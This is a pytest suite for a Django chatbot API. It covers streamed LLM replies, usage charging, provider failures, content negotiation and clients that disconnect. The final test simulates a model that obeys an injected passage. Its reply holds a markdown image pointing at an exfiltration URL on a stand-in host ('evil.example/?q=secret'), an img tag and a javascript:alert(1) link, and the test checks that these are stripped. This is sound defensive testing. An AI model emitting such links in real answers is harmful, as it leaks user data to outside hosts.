"""Chats whose client asks for events: what they say, when they fail, what they cost."""

import json
import threading
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import pytest
from django.utils import timezone
from pytest_django import Settings

from accounts.models import Plan, User
from chatbots import waiting
from chatbots.jobs import give_back_unanswered_messages
from chatbots.models import Chatbot, Message, MessageUsage, Reservation
from chatbots.providers import reply
from chatbots.providers.reply import NO_ANSWER
from tests.chatbots.llm_server import LlmServer
from tests.conftest import ApiClient, detail

SHIPPING = "Do you ship to Norway?"
EVENTS = "text/event-stream"


class Event(NamedTuple):
    name: str
    data: dict[str, Any]


@pytest.fixture
def llm(settings: Settings) -> Iterator[LlmServer]:
    server = LlmServer()
    settings.OPENAI_API_KEY = "openai-secret"
    settings.OPENAI_BASE_URL = f"{server.url}/v1"
    settings.OLLAMA_BASE_URL = server.url
    settings.PROVIDER_TIMEOUT_SECONDS = 60.0
    yield server
    server.close()


@pytest.fixture(params=["chatgpt", "ollama"])
def bot(request: pytest.FixtureRequest, chatbot: Chatbot) -> Chatbot:
    Chatbot.objects.update(provider=request.param)
    return chatbot


def ask(
    api: ApiClient, bot: Chatbot, message: str = SHIPPING, *, query: str = "", accept: str = EVENTS
) -> Any:
    return api.request(
        "POST",
        f"/chatbots/{bot.id}/chat{query}",
        data=json.dumps({"message": message}),
        content_type="application/json",
        headers={"Accept": accept},
    )


def read(response: Any) -> list[Event]:
    assert (response.status_code, response.headers["Content-Type"]) == (200, EVENTS)
    blocks = b"".join(response.streaming_content).decode().removesuffix("\n\n").split("\n\n")
    lines = [block.split("\n") for block in blocks]
    return [
        Event(name.removeprefix("event: "), json.loads(data.removeprefix("data: ")))
        for name, data in lines
    ]


def text_of(events: list[Event]) -> str:
    return "".join(event.data["text"] for event in events if event.name == "delta")


def leave(response: Any) -> None:
    """Close a stream while its first part is being sent, as the server does then."""
    parts = parts_of(response)
    next(parts)
    parts.close()


def parts_of(response: Any) -> Any:
    """Return what Django's test client reads; closing it leaves the test's connection open."""
    return response._iterator


def used(owner: User) -> int:
    return sum(MessageUsage.objects.filter(owner=owner).values_list("used", flat=True))


def let_reservations_expire() -> None:
    Reservation.objects.update(expires_at=timezone.now())
    give_back_unanswered_messages()


class TestAStream:
    def test_passes_on_what_the_model_says_as_it_comes(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, alice: User
    ) -> None:
        llm.reply = " Yes, we do.\n"
        events = read(ask(api, bot))
        assert events == [
            Event("delta", {"text": "Yes,"}),
            Event("delta", {"text": " we"}),
            Event("delta", {"text": " do."}),
            Event("done", {"response": "Yes, we do."}),
        ]
        assert llm.requests[0][2]["stream"] is True
        assert used(alice) == 1
        assert [message.text for message in Message.objects.all()] == [SHIPPING, "Yes, we do."]

    def test_of_the_builtin_provider_is_one_piece(self, api: ApiClient, chatbot: Chatbot) -> None:
        answer = "We ship to Norway, Sweden and Denmark."
        assert read(ask(api, chatbot)) == [
            Event("delta", {"text": answer}),
            Event("done", {"response": answer}),
        ]

    def test_ends_with_what_was_to_be_included(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer
    ) -> None:
        done = read(ask(api, bot, query="?include=sources,usage"))[-1].data
        assert list(done) == ["response", "sources", "fallback", "usage"]
        assert done["sources"][0]["title"] == "Rules"
        assert done["usage"]["used"] == 1

    @pytest.mark.parametrize("reply", [NO_ANSWER, f"`{NO_ANSWER}`.\n"])
    def test_without_an_answer_is_the_fallback(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, reply: str
    ) -> None:
        llm.pieces = list(reply)
        events = read(ask(api, bot, query="?include=sources"))
        assert [event.name for event in events] == ["delta", "done"]
        assert text_of(events) == bot.fallback_message
        assert events[-1].data["fallback"] is True

    def test_does_not_ask_the_model_where_nothing_is_known(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer
    ) -> None:
        events = read(ask(api, bot, "What is the capital of France?"))
        assert text_of(events) == bot.fallback_message
        assert not llm.requests

    def test_has_a_header_for_proxies_and_none_of_its_length(
        self, api: ApiClient, chatbot: Chatbot
    ) -> None:
        response = ask(api, chatbot)
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["X-Accel-Buffering"] == "no"
        assert response.headers["RateLimit"].startswith('"default";r=59;t=')
        assert response.headers["X-Request-ID"]
        assert "Content-Length" not in response.headers
        leave(response)

    def test_that_outlasts_its_reservation_is_stored_and_charged(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, alice: User
    ) -> None:
        parts = parts_of(ask(api, bot))
        next(parts)
        let_reservations_expire()
        assert list(parts)[-1] == b'event: done\ndata: {"response":"Yes, we do."}\n\n'
        assert used(alice) == 1
        assert Message.objects.get(role=Message.Role.ASSISTANT).text == "Yes, we do."

    def test_is_cut_at_the_longest_length_and_ends_the_call(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(reply, "ANSWER_MAX_LENGTH", 7)
        llm.pieces = ["Yes, ", "we do ", "ship."]
        assert read(ask(api, bot))[-1] == Event("done", {"response": "Yes, we"})


def paused(bot: Chatbot) -> None:
    Chatbot.objects.update(is_active=False)


def used_up(bot: Chatbot) -> None:
    bot.owner.plan = Plan.objects.create(name="None", monthly_messages=0)
    bot.owner.save()


def refused_by_the_provider(llm: LlmServer) -> None:
    llm.status = 401


def no_stream(llm: LlmServer) -> None:
    llm.raw = b"<html>"


def nothing_but_space(llm: LlmServer) -> None:
    llm.pieces = [" ", "\n"]


class TestAFailure:
    @pytest.mark.parametrize(
        ("fail", "status", "reason"),
        [
            (paused, 400, "Chatbot is paused."),
            (used_up, 429, "Monthly message limit reached."),
        ],
    )
    def test_before_the_model_is_asked_is_a_plain_answer(
        self,
        api: ApiClient,
        bot: Chatbot,
        llm: LlmServer,
        fail: Callable[[Chatbot], None],
        status: int,
        reason: str,
    ) -> None:
        fail(bot)
        response = ask(api, bot)
        assert (response.status_code, detail(response)) == (status, reason)
        assert not llm.requests

    def test_to_get_a_place_is_a_plain_answer(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(waiting, "places", threading.Semaphore(0))
        assert ask(api, bot).status_code == 503

    def test_to_own_the_chatbot_is_a_plain_answer(
        self, strangers_api: ApiClient, bot: Chatbot
    ) -> None:
        assert detail(ask(strangers_api, bot)) == "Not Found"

    @pytest.mark.parametrize("fail", [refused_by_the_provider, no_stream, nothing_but_space])
    def test_before_the_first_text_is_a_plain_answer(
        self,
        api: ApiClient,
        bot: Chatbot,
        llm: LlmServer,
        alice: User,
        fail: Callable[[LlmServer], None],
    ) -> None:
        fail(llm)
        response = ask(api, bot)
        assert response.status_code == 502
        assert detail(response) == "The chatbot's provider did not answer."
        assert used(alice) == 0
        assert not Message.objects.exists()

    def test_after_some_text_is_the_last_event_and_costs_nothing(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, alice: User
    ) -> None:
        llm.breaks_off = True
        events = read(ask(api, bot))
        assert text_of(events) == llm.reply
        assert events[-1] == Event("error", {"detail": "The chatbot's provider did not answer."})
        assert used(alice) == 0
        assert not Message.objects.exists()
        assert waiting.places.acquire(blocking=False)
        waiting.places.release()


class TestAClientThatLeaves:
    def test_after_some_text_is_charged_once_and_that_text_is_stored(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, alice: User
    ) -> None:
        llm.may_go_on.clear()
        llm.pieces = ["We ", "ship."]
        response = ask(api, bot)
        parts = parts_of(response)
        assert b'{"text":"We"}' in next(parts)
        llm.may_go_on.set()
        next(parts)  # so the first was sent
        parts.close()
        assert used(alice) == 1
        answer = Message.objects.get(role=Message.Role.ASSISTANT)
        assert (answer.text, answer.is_complete) == ("We", False)

    def test_after_its_reservation_has_expired_is_charged_all_the_same(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, alice: User
    ) -> None:
        llm.pieces = ["We ", "ship."]
        parts = parts_of(ask(api, bot))
        next(parts)
        next(parts)  # so the first was sent
        let_reservations_expire()
        assert used(alice) == 0
        parts.close()
        assert used(alice) == 1
        assert Message.objects.get(role=Message.Role.ASSISTANT).text == "We"

    def test_before_any_text_is_not_charged_and_ends_the_call(
        self, api: ApiClient, bot: Chatbot, llm: LlmServer, alice: User
    ) -> None:
        llm.may_go_on.clear()
        leave(ask(api, bot))
        assert llm.left.wait(60)
        assert used(alice) == 0
        assert not Message.objects.exists()


@pytest.mark.parametrize(
    ("accept", "is_stream"),
    [
        ("text/event-stream", True),
        ("TEXT/Event-Stream; q=0.1", True),
        ("text/event-stream, */*", True),
        ("application/json;q=0.5, text/event-stream;q=0.9", True),
        ("application/json, text/event-stream", False),
        ("text/event-stream;q=0", False),
        ("text/event-stream;q=0, */*", False),
        ("text/event-stream;q=0.000, text/event-stream", True),
        ("text/*", False),
        ("*/*", False),
        ("", False),
        ("text/event-streams", False),
    ],
)
def test_events_are_for_clients_that_name_them(
    api: ApiClient, chatbot: Chatbot, accept: str, is_stream: bool
) -> None:
    response = ask(api, chatbot, accept=accept)
    assert response.headers["Content-Type"] == (EVENTS if is_stream else "application/json")
    if is_stream:
        leave(response)


@pytest.mark.parametrize("accept", ["application/json", EVENTS])
def test_a_model_that_obeys_a_passage_links_to_nothing_of_its_own(
    api: ApiClient, bot: Chatbot, llm: LlmServer, accept: str
) -> None:
    llm.reply = (
        "![x](https://evil.example/?q=secret) <img src='https://evil.example'>"
        " [log in](javascript:alert(1)) or <https://evil.example>, HTTPS://evil.example/a."
    )
    llm.pieces = list(llm.reply)
    response = ask(api, bot, accept=accept)
    answer = text_of(read(response)) if accept == EVENTS else response.json()["response"]
    assert answer == "[x]   [log in] or  , […]."
